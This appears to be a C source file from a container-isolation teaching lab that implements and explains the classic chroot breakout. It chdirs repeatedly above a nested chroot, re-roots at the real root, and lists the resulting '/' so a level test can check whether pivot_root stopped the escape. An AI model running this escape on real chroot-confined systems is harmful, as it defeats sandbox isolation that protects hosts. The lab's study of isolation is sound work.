/*
 * chroot-escape: the classic chroot breakout, the experiment of Glasshouse level 03.
 *
 * Why it works: chroot(2) changes only the process's root directory, not its working directory,
 * and ".." stops climbing only AT the process's root. So a root process that
 *   1. makes a directory inside its current root,
 *   2. chroots into it WITHOUT chdir'ing — its working directory is now OUTSIDE its new root,
 *   3. chdir("..") over and over — the climb never meets the new root, so it goes up to the
 *      real root of the mount namespace (where ".." is "." again),
 *   4. chroot(".") — makes that real root its root,
 * has left the chroot. With only chroot (levels 01-02) that real root is the HOST's "/". Once
 * pivot_root has made the image the root of a private mount namespace and the old root has been
 * detached (level 03), the climb ends at the image's root: there is nothing above it to reach.
 *
 * Why C: the busybox image has no Python or Perl, and busybox's own chroot applet chdir()s into
 * the new root (which defeats step 2). So the image recipe compiles this file statically (it must
 * run without a libc in the image) and installs it as /bin/chroot-escape.
 *
 * Output: the entries of "/" after the attempt, sorted, one per line, after a header line. The lab
 * (and the level-03 test) compares them with the host's "/" and with the image's.
 * Exit status: 0 when the steps ran, 1 when one failed (its errno is printed).
 */
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int fail(const char *what) {
  fprintf(stderr, "chroot-escape: %s: %s\n", what, strerror(errno));
  return 1;
}

static int by_name(const void *a, const void *b) {
  return strcmp(*(char *const *)a, *(char *const *)b);
}

int main(void) {
  const char *dir = "glasshouse-escape";
  if (chdir("/") != 0) return fail("chdir /");
  if (mkdir(dir, 0700) != 0 && errno != EEXIST) return fail("mkdir");
  if (chroot(dir) != 0) return fail("chroot into the new directory");
  /* No chdir here: that is the whole trick. */
  for (int i = 0; i < 256; i++) {
    if (chdir("..") != 0) return fail("chdir ..");
  }
  if (chroot(".") != 0) return fail("chroot .");

  DIR *d = opendir("/");
  if (d == NULL) return fail("opendir /");
  char *names[4096];
  int n = 0;
  struct dirent *e;
  while ((e = readdir(d)) != NULL && n < 4096) {
    if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0) {
      names[n++] = strdup(e->d_name);
    }
  }
  closedir(d);
  qsort(names, n, sizeof names[0], by_name);
  printf("after the escape attempt, / holds:\n");
  for (int i = 0; i < n; i++) printf("%s\n", names[i]);
  return 0;
}
